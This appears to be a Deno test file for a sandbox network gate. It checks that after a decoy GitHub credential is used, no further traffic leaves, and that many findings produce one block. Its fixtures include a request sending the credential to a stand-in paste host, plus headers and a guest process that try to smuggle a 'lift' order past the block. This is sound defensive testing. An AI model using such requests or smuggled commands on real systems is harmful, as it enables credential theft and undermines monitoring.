/** A guest that used a decoy: what it sends afterwards, what was under way, and a flood of findings. */
import { assertEquals } from "@std/assert";
import { join } from "node:path";
import { type NewCredential, refOf } from "../../../lib/credential/mod.ts";
import { Responder } from "../../../lib/session/response.ts";
import { ALL, encode, KEY, world } from "../../helper/credential.ts";
import { BUFFERED_BODY_MAX } from "../../../lib/network/limit.ts";
import { TestNet } from "../../helper/net.ts";
import { rawUpstream } from "../../helper/net_client.ts";
import { eventually } from "../../helper/sbx.ts";

const DECOY: NewCredential = { provider: "github", secret: KEY.github, decoy: true };
const REF = refOf("github", KEY.github);

Deno.test(
  "after a used decoy nothing leaves: no other request, and not the rest of one that is under way",
  world([DECOY], async ({ open }) => {
    const dir = await Deno.makeTempDir();
    const path = join(dir, "response.json");
    let received = "";
    const upstream = rawUpstream(async (client) => {
      received += await client.until("\r\n\r\n");
      for (;;) received += await client.take(4096);
    });
    const hold = new Responder(path, "dev", {});
    await using net = await TestNet.open({ target: () => upstream.target, broker: await open(ALL), hold });
    hold.attach({ gate: net.gate, snapshot: () => Promise.resolve("s"), cut() {}, show() {} });

    const slow = await net.client();
    // Longer than any body that waits until it is complete.
    const first = "a".repeat(BUFFERED_BODY_MAX + 256 * 1024), rest = "z".repeat(64 * 1024);
    const length = first.length + rest.length;
    await slow.send(encode(`POST / HTTP/1.1\r\nHost: a.example.com\r\nContent-Length: ${length}\r\n\r\n`));
    const sending = slow.send(encode(first));
    await eventually("the upload is under way", () => received.includes("aaaa"));
    await sending;

    const thief = await net.client();
    await thief.send(encode(`GET /?key=${REF} HTTP/1.1\r\nHost: paste.example.com\r\n\r\n`));
    assertEquals((await thief.answer()).status, 403);
    thief.close();
    await slow.send(encode(rest)).catch(() => {});
    slow.close();

    const next = await net.client();
    await next.send(encode("GET /next HTTP/1.1\r\nHost: b.example.com\r\n\r\n"));
    assertEquals((await next.answer()).status, 403);
    next.close();
    await net.idle();
    upstream.close();
    assertEquals([received.includes("zzzz"), received.match(/[A-Z]+ \/\S* HTTP/g)], [false, ["POST / HTTP"]]);
    const last = net.gate.entries.findLast(({ event }) => event.http);
    assertEquals(last?.decision?.rule.id, "guard-response");

    // A process that is killed now leaves the hold behind.
    assertEquals(new Responder(path, "dev", {}).hold?.actions.map(({ action }) => action), ["block"]);
    await Deno.remove(dir, { recursive: true });
  }),
);

Deno.test(
  "a flood of findings makes one answer, and its texts lift nothing",
  world([DECOY], async ({ open }) => {
    const dir = await Deno.makeTempDir();
    const path = join(dir, "response.json");
    const hold = new Responder(path, "dev", {});
    await using net = await TestNet.open({ broker: await open(ALL), hold });
    hold.attach({ gate: net.gate, snapshot: () => Promise.resolve("s"), cut() {}, show() {} });
    for (let at = 0; at < 20; at++) {
      const client = await net.client();
      const name = `sbx-lift-${at}`;
      await client.send(
        encode(`GET / HTTP/1.1\r\nHost: paste.example.com\r\n${name}: ${REF} response.lift corp\r\n\r\n`),
      );
      assertEquals((await client.answer()).status, 403);
      client.close();
    }
    // The guest's own program of that name is no order of the host.
    net.gate.observe({
      common: { event_type: "process.exec", source_engine: "process" },
      process: {
        activity: {
          executable: "sbx-response",
          command: "sbx-response lift",
          argv: ["sbx-response", "lift"],
          cwd: "/",
          operation: "exec",
        },
      },
    });
    await net.idle();
    const answers = net.gate.entries.filter(({ event: { common, process } }) =>
      common.actor === "host" && process?.activity.executable === "sbx-response"
    );
    assertEquals([answers.length, hold.hold?.actions.length], [1, 1]);
    assertEquals((await Deno.stat(path)).size < 2000, true);
    await Deno.remove(dir, { recursive: true });
  }),
);
